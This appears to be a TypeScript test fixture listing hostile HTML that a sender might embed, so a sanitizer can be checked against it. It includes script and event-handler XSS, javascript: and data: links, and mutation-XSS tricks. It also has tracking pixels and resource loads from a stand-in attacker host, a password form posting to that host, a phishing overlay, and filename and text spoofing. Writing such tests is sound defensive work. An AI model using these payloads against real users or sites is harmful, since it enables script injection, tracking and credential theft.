/** HTML as a hostile sender writes it. Nothing of it may run, load, submit, navigate or reach out of its frame. */
const HOST = 'evil.example.net';

export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  scripts: `<script>top.pwned=1</script><script src="https://${HOST}/a.js"></script><svg><script>top.pwned=1</script></svg>`,
  handlers: `<img src="x" onerror="top.pwned=1"><body onload="top.pwned=1"><details open ontoggle="top.pwned=1"><b onfocus="top.pwned=1" tabindex="0" autofocus>b</b></details>`,
  addresses: `<a href="javascript:top.pwned=1">a</a><a href="JaVa&#9;script:top.pwned=1">b</a><a href="data:text/html,<script>top.pwned=1</script>">c</a><a href="vbscript:x">d</a>`,
  pixels: `<img src="https://${HOST}/p.gif" width="1" height="1" alt=""><img srcset="//${HOST}/p2.gif 1x"><picture><source srcset="https://${HOST}/p3.gif"><img></picture><table background="https://${HOST}/bg.gif"><tr><td>t</td></tr></table><input type="image" src="https://${HOST}/p4.gif"><video poster="https://${HOST}/p5.gif" src="https://${HOST}/v.mp4" autoplay></video><audio src="https://${HOST}/a.mp3" autoplay></audio>`,
  styles: `<style>@import url(https://${HOST}/s.css); body{background:url("//${HOST}/b.png")} @font-face{font-family:x;src:url(https://${HOST}/f.woff2)}</style><p style="background:url(https://${HOST}/c.png);font-family:x">p</p><p style="background:\\75rl(https://${HOST}/d.png)">q</p><p style="background:image-set('https://${HOST}/e.png' 1x)">r</p><link rel="stylesheet" href="https://${HOST}/l.css"><link rel="prefetch" href="https://${HOST}/l2"><link rel="dns-prefetch" href="//${HOST}">`,
  vectors: `<svg xmlns="http://www.w3.org/2000/svg"><image href="https://${HOST}/i.png"/><use href="https://${HOST}/u.svg#x"/><foreignObject><iframe src="https://${HOST}/"></iframe></foreignObject><animate attributeName="href" values="javascript:top.pwned=1"/></svg><math><mtext><table><mglyph><style><img src=x onerror="top.pwned=1"></style></mglyph></table></mtext></math>`,
  frames: `<iframe src="https://${HOST}/"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="https://${HOST}/o"></object><embed src="https://${HOST}/e"><base href="https://${HOST}/"><meta http-equiv="refresh" content="0;url=https://${HOST}/r"><portal src="https://${HOST}"></portal>`,
  forms: `<form action="https://${HOST}/f" method="post"><input name="password" type="password"><button formaction="https://${HOST}/g">Unlock Latchkey</button></form><button popovertarget="x">p</button><dialog open>Type your password</dialog>`,
  names: `<form id="document"><input name="body"></form><img name="cookie"><a id="app">x</a><p id="list-filter">y</p><div data-trust="1">z</div>`,
  mutation: `<noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript><math><mi//xlink:href="data:x,<script>top.pwned=1</script>"></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=top.pwned=1></form><template><img src=x onerror=top.pwned=1></template><!--><img src=x onerror=top.pwned=1>-->`,
  overlay: `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session ended. <a href="https://${HOST}/login">Sign in</a></div>`,
  growth: `<div style="height:300vh">as high as three of its frames</div>`,
  target: `<a href="https://${HOST}/t" target="_top" ping="https://${HOST}/ping">https://bank.example.org/</a>`,
};

/** Subjects and texts that look like other ones. */
export const TRICKS: readonly string[] = [
  'invoice\u202Efdp.exe',
  '\u2066bob@localhost\u2069 \u200Bpaid',
  '<img src=x onerror=top.pwned=1>',
  '{{constructor.constructor("top.pwned=1")()}}',
];
